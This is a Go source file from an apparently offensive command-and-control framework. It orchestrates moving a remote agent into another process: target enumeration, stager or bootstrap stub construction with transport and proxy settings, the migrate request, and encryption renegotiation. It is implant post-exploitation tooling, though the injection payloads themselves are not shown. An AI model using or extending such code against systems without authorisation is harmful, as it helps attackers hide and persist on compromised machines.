// ABOUTME: Migration Orchestrator — relocates the running agent into another host process.
// ABOUTME: Linear state machine with a transport-dependent handoff and terminal failure path.

package migrate

import (
	"context"
	"log/slog"
	"path"
	"time"

	"github.com/nightjar-sec/nightjar/internal/errs"
	"github.com/nightjar-sec/nightjar/internal/extension"
	"github.com/nightjar-sec/nightjar/internal/session"
	"github.com/nightjar-sec/nightjar/internal/tlv"
)

// Fixed windows of the migration protocol.
const (
	// RequestTimeout extends the ordinary response wait: the agent must
	// inject and hand off before it can acknowledge.
	RequestTimeout = 60 * time.Second
	// RenegotiateDeadline bounds the encryption teardown-and-rebuild
	// against the new process. Missing it kills the session.
	RenegotiateDeadline = 60 * time.Second
	// PollingGrace lets the old process exit before the replacement starts
	// polling, so dying and new processes never race for the same queue.
	PollingGrace = 5 * time.Second

	// LinuxBaseAddr is the fixed load base the bootstrap maps itself at.
	LinuxBaseAddr = uint64(0x20040000)

	// procModule is the capability module providing process enumeration.
	procModule = "stdapi"
)

// ProcessInfo is one entry of the agent's process snapshot.
type ProcessInfo struct {
	PID  int
	Arch string // "x86", "x64", or empty when not inspectable
	Name string
}

// RemoteQuery is the process/filesystem query collaborator, answered by the
// agent once the process-enumeration capability is loaded.
type RemoteQuery interface {
	Processes(ctx context.Context) ([]ProcessInfo, error)
	CurrentPID(ctx context.Context) (int, error)
	StatIsDir(ctx context.Context, path string) (bool, error)
	GetEnv(ctx context.Context, name string) (string, error)
}

// Options describe the migration target.
type Options struct {
	PID int
	// ScratchDir is a writable directory on the target for the rendezvous
	// socket (Linux only). Empty means the agent's TMPDIR, then /tmp.
	ScratchDir string
}

// Orchestrator relocates one agent session into another host process.
type Orchestrator struct {
	ch     tlv.Channel
	sess   *session.Session
	loader *extension.Loader
	query  RemoteQuery
	stubs  StubBuilder
	store  BootstrapStore
	logger *slog.Logger

	grace time.Duration // polling handoff window, PollingGrace in production
}

// NewOrchestrator creates an Orchestrator bound to one agent session.
func NewOrchestrator(
	ch tlv.Channel,
	sess *session.Session,
	loader *extension.Loader,
	query RemoteQuery,
	stubs StubBuilder,
	store BootstrapStore,
	logger *slog.Logger,
) *Orchestrator {
	return &Orchestrator{
		ch:     ch,
		sess:   sess,
		loader: loader,
		query:  query,
		stubs:  stubs,
		store:  store,
		logger: logger,
		grace:  PollingGrace,
	}
}

// Migrate moves the running agent into the process named by opts, preserving
// the controller's logical session. Validation failures abort before the
// migrate request is ever sent; a renegotiation timeout after the handoff
// marks the session permanently dead.
func (o *Orchestrator) Migrate(ctx context.Context, opts Options) error {
	if err := o.sess.EnsureAlive(); err != nil {
		return err
	}

	// Step 1: suspend keep-alives for the duration.
	prevKeepAlive := o.sess.KeepAlive
	o.sess.KeepAlive = false
	defer func() {
		// The dead path deliberately leaves keep-alive suspended: the
		// session is terminal and restoring the flag could only provoke
		// traffic on a connection with undefined crypto state.
		if o.sess.Alive() {
			o.sess.KeepAlive = prevKeepAlive
		}
	}()

	// Step 2: process enumeration must be available; Use is idempotent.
	if err := o.loader.Use(ctx, procModule, extension.UseOptions{}); err != nil {
		return err
	}

	// Step 3: resolve the target in a fresh snapshot.
	procs, err := o.query.Processes(ctx)
	if err != nil {
		return errs.Protocol("migrate", "fetching process snapshot: %v", err)
	}
	var target *ProcessInfo
	for i := range procs {
		if procs[i].PID == opts.PID {
			target = &procs[i]
			break
		}
	}
	if target == nil {
		return errs.Validation("migrate", "process %d not found", opts.PID)
	}

	// Step 4: accessibility.
	self, err := o.query.CurrentPID(ctx)
	if err != nil {
		return errs.Protocol("migrate", "fetching current pid: %v", err)
	}
	if opts.PID == self {
		return errs.Validation("migrate", "cannot migrate into the current process (%d)", self)
	}

	targetArch, err := o.targetArch(target)
	if err != nil {
		return err
	}

	// Step 5: Linux scratch directory.
	var scratch string
	if o.sess.Family == session.FamilyLinux {
		if scratch, err = o.resolveScratch(ctx, opts.ScratchDir); err != nil {
			return err
		}
	}

	// Steps 6-7: build the platform stub.
	stub, entry, rendezvous, err := o.buildStub(targetArch, scratch)
	if err != nil {
		return err
	}

	o.logger.Info("migrating",
		"target_pid", opts.PID,
		"target_name", target.Name,
		"target_arch", targetArch.String(),
		"payload_bytes", len(stub),
	)

	// Step 8: migrate request, with the extended response window.
	req := tlv.NewRequest(tlv.CmdMigrate).
		Add(tlv.KindMigratePID, uint32(opts.PID)).
		Add(tlv.KindMigrateLen, uint32(len(stub))).
		Add(tlv.KindMigrateArch, targetArch.String())
	if o.sess.Compression {
		req.AddCompressed(tlv.KindMigratePayload, stub)
	} else {
		req.Add(tlv.KindMigratePayload, stub)
	}
	if o.sess.Family == session.FamilyLinux {
		req.Add(tlv.KindMigrateBaseAddr, LinuxBaseAddr).
			Add(tlv.KindMigrateEntryPoint, entry).
			Add(tlv.KindMigrateSockPath, rendezvous)
	}

	resp, err := o.ch.SendAndAwait(ctx, req, RequestTimeout)
	if err != nil {
		return errs.Protocol("migrate", "sending request: %v", err)
	}
	if resp == nil {
		return errs.Protocol("migrate", "no response")
	}
	if resp.ResultCode != tlv.ResultSuccess {
		return errs.RemoteResult("migrate", resp.ResultCode)
	}

	// Step 9: handoff.
	if o.sess.Transport.Polling {
		// No synchronous handshake is possible on a polling transport;
		// give the old process time to exit before the new one polls.
		time.Sleep(o.grace)
	} else {
		if err := o.renegotiate(ctx); err != nil {
			return err
		}
	}

	// Step 10: refresh platform identity. Migration never crosses hosts,
	// so the family is the session's; the architecture is the target's.
	// Unrecognized pairings keep the pre-migration tags.
	o.sess.Retag(o.sess.Family, targetArch)

	// Step 11: the new process starts with no modules loaded.
	for _, name := range o.sess.Modules() {
		if err := o.loader.Use(ctx, name, extension.UseOptions{}); err != nil {
			return err
		}
	}

	o.logger.Info("migration complete", "pid", opts.PID, "suffix", o.sess.SuffixTag)
	// Step 12 (keep-alive restore) runs in the deferred handler.
	return nil
}

// renegotiate performs the persistent-transport handoff: with the connection
// serialized and the background reader stopped, the encryption context is
// dropped to its plain negotiation state and rebuilt against the new
// process. The old process's session keys cannot carry over, so this is a
// clean teardown-then-rebuild, not an in-place rekey.
//
// If the deadline elapses the session is terminal: the background reader is
// deliberately left stopped, since a dead session must not keep a consumer
// attached to a connection whose crypto state is undefined.
func (o *Orchestrator) renegotiate(ctx context.Context) error {
	o.sess.LockConn()
	defer o.sess.UnlockConn()

	o.sess.Reader.Stop()

	dctx, cancel := context.WithTimeout(ctx, RenegotiateDeadline)
	defer cancel()

	o.sess.Crypto.Reset()
	if err := o.sess.Crypto.Negotiate(dctx); err != nil {
		o.sess.MarkDead("encryption renegotiation failed: " + err.Error())
		return &errs.FatalSessionError{Reason: "encryption renegotiation timed out"}
	}

	o.sess.Reader.Start()
	return nil
}

// targetArch derives the target architecture from the snapshot entry. On
// Windows an empty reported architecture means the process could not be
// inspected with the agent's privileges.
func (o *Orchestrator) targetArch(target *ProcessInfo) (session.Arch, error) {
	switch target.Arch {
	case "x64":
		return session.Arch64, nil
	case "x86":
		return session.Arch32, nil
	case "":
		if o.sess.Family == session.FamilyWindows {
			return session.ArchUnknown, errs.Validation("migrate",
				"process %d reports no architecture: insufficient privilege to inspect", target.PID)
		}
		// Non-Windows agents do not always report per-process width.
		return o.sess.Arch, nil
	default:
		return session.ArchUnknown, errs.Validation("migrate",
			"unsupported target architecture %q", target.Arch)
	}
}

// resolveScratch picks and validates the writable scratch directory on the
// target for the rendezvous socket.
func (o *Orchestrator) resolveScratch(ctx context.Context, dir string) (string, error) {
	if dir == "" {
		var err error
		if dir, err = o.query.GetEnv(ctx, "TMPDIR"); err != nil || dir == "" {
			dir = "/tmp"
		}
	}

	isDir, err := o.query.StatIsDir(ctx, dir)
	if err != nil || !isDir {
		return "", errs.Validation("migrate", "%q is not a usable scratch directory", dir)
	}
	return dir, nil
}

// buildStub constructs the platform stub and, for Linux, patches the
// rendezvous path and extracts the entry point. The path length is checked
// before any mutation of the stub bytes.
func (o *Orchestrator) buildStub(targetArch session.Arch, scratch string) (stub []byte, entry uint64, rendezvous string, err error) {
	switch o.sess.Family {
	case session.FamilyWindows:
		var patch *TransportPatch
		if t := o.sess.Transport; t.Polling {
			patch = &TransportPatch{
				TLS:           t.TLS,
				URL:           t.URL,
				SessionExpiry: t.SessionExpiry,
				CommTimeout:   t.CommTimeout,
				UserAgent:     t.UserAgent,
				ProxyHost:     t.ProxyHost,
				ProxyUser:     t.ProxyUser,
				ProxyPass:     t.ProxyPass,
			}
		}
		if stub, err = o.stubs.BuildStager(targetArch, patch); err != nil {
			return nil, 0, "", err
		}
		return stub, 0, "", nil

	case session.FamilyLinux:
		if stub, err = o.store.Bootstrap(); err != nil {
			return nil, 0, "", err
		}

		rendezvous = path.Join(scratch, randRendezvousName())
		if len(rendezvous) > MaxRendezvous {
			return nil, 0, "", errs.Validation("migrate",
				"rendezvous path too long: %d bytes exceeds %d", len(rendezvous), MaxRendezvous)
		}
		if err = patchRendezvous(stub, rendezvous); err != nil {
			return nil, 0, "", err
		}
		if entry, err = extractEntryPoint(stub); err != nil {
			return nil, 0, "", err
		}
		return stub, entry, rendezvous, nil

	default:
		return nil, 0, "", &errs.PlatformError{Op: "migrate", Target: o.sess.Family.String()}
	}
}
